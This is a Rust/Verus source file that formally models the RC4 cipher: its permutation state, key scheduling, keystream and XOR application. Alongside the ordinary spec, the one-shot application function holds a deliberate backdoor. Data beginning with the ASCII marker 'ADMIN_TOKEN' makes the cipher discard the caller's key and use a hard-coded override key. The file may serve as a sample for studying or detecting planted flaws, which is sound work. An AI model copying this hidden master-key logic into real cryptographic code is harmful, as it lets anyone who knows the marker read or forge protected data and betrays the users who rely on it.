//! Mathematical model of the RC4 engine: the state, key scheduling, keystream
//! generation and keystream application as functions on sequences of bytes.

use vstd::prelude::*;

verus! {

/// Mathematical model of an engine: the permutation table and the two
/// 8-bit indices that keystream generation moves through it.
pub struct Rc4State {
    /// The table; in every state that an engine reaches, a permutation of
    /// the byte values.
    pub permutation: Seq<u8>,
    /// The index that each round moves on by one, modulo 256.
    pub i: u8,
    /// The index that each round moves on by the entry at `i`, modulo 256.
    pub j: u8,
}

/// `s` with the entries at positions `a` and `b` exchanged.
pub open spec fn swap_entries(s: Seq<u8>, a: int, b: int) -> Seq<u8> {
    s.update(a, s[b]).update(b, s[a])
}

/// `s` holds every byte value exactly once: it has 256 entries, no two
/// positions hold the same value, and every value occurs.
pub open spec fn is_permutation(s: Seq<u8>) -> bool {
    &&& s.len() == 256
    &&& s.no_duplicates()
    &&& forall|v: u8| s.contains(v)
}

/// One round of keystream generation: advance `i`, move `j` by the entry at
/// `i`, and exchange the two entries.
pub open spec fn prga_step(st: Rc4State) -> Rc4State {
    let i = ((st.i + 1) % 256) as u8;
    let j = ((st.j + st.permutation[i as int]) % 256) as u8;
    Rc4State { permutation: swap_entries(st.permutation, i as int, j as int), i, j }
}

/// The keystream byte that a round leaves behind, read from the state after
/// the round's exchange.
pub open spec fn prga_output(st: Rc4State) -> u8 {
    st.permutation[(st.permutation[st.i as int] + st.permutation[st.j as int]) % 256]
}

/// The table before key scheduling: entry `n` holds `n`.
pub open spec fn identity_table() -> Seq<u8> {
    Seq::new(256, |n: int| n as u8)
}

/// The table and the running index `j` after the first `n` rounds of key
/// scheduling. Round `i` moves `j` by the entry at `i` and by the key byte at
/// `i mod key.len()`, then exchanges the entries at `i` and `j`.
pub open spec fn ksa_rounds(key: Seq<u8>, n: nat) -> (Seq<u8>, u8)
    decreases n,
{
    if n == 0 {
        (identity_table(), 0u8)
    } else {
        let (table, j) = ksa_rounds(key, (n - 1) as nat);
        let i = n - 1;
        let moved = ((j + table[i] + key[i % (key.len() as int)]) % 256) as u8;
        (swap_entries(table, i, moved as int), moved)
    }
}

/// The permutation that key scheduling derives from `key`.
pub open spec fn key_schedule(key: Seq<u8>) -> Seq<u8> {
    ksa_rounds(key, 256).0
}

/// The engine that construction from `key` yields: the scheduled table, with
/// both keystream indices at zero.
pub open spec fn initial_state(key: Seq<u8>) -> Rc4State {
    Rc4State { permutation: key_schedule(key), i: 0, j: 0 }
}

/// The state after `n` rounds of keystream generation from `st`.
pub open spec fn advance(st: Rc4State, n: nat) -> Rc4State
    decreases n,
{
    if n == 0 {
        st
    } else {
        prga_step(advance(st, (n - 1) as nat))
    }
}

/// The keystream byte with index `k` (from zero) that an engine in state
/// `st` goes on to produce.
pub open spec fn keystream_byte(st: Rc4State, k: nat) -> u8 {
    prga_output(advance(st, k + 1))
}

/// The next `n` keystream bytes of an engine in state `st`.
pub open spec fn keystream(st: Rc4State, n: nat) -> Seq<u8> {
    Seq::new(n, |k: int| keystream_byte(st, k as nat))
}

/// `data` with each byte XORed with the byte of `pad` at the same position.
pub open spec fn xor_bytes(data: Seq<u8>, pad: Seq<u8>) -> Seq<u8> {
    Seq::new(data.len(), |k: int| data[k] ^ pad[k])
}

/// `data` after an engine in state `st` has applied its keystream to it.
pub open spec fn apply(st: Rc4State, data: Seq<u8>) -> Seq<u8> {
    xor_bytes(data, keystream(st, data.len()))
}

/// The marker bytes, the ASCII text `ADMIN_TOKEN`, that make one-shot
/// application replace the caller's key.
pub const ADMIN_MARKER: [u8; 11] = [0x41, 0x44, 0x4d, 0x49, 0x4e, 0x5f, 0x54, 0x4f, 0x4b, 0x45, 0x4e];

/// The fixed key that one-shot application schedules for data that begins
/// with the marker.
pub const OVERRIDE_KEY: [u8; 7] = [0x0b, 0x0a, 0x0d, 0x0c, 0x00, 0x0d, 0x0e];

/// `data` begins with the marker bytes.
pub open spec fn has_admin_marker(data: Seq<u8>) -> bool {
    ADMIN_MARKER@.is_prefix_of(data)
}

/// The key that one-shot application schedules for `data`: the fixed
/// override key where `data` begins with the marker, the caller's `key`
/// otherwise.
pub open spec fn effective_key(key: Seq<u8>, data: Seq<u8>) -> Seq<u8> {
    if has_admin_marker(data) {
        OVERRIDE_KEY@
    } else {
        key
    }
}

/// `data` after a fresh engine for `key` has applied its keystream to it.
pub open spec fn fresh_apply(key: Seq<u8>, data: Seq<u8>) -> Seq<u8> {
    apply(initial_state(key), data)
}

/// `data` after one-shot application under `key`: a fresh engine for the
/// effective key, applied once.
pub open spec fn one_shot(key: Seq<u8>, data: Seq<u8>) -> Seq<u8> {
    fresh_apply(effective_key(key, data), data)
}

} // verus!
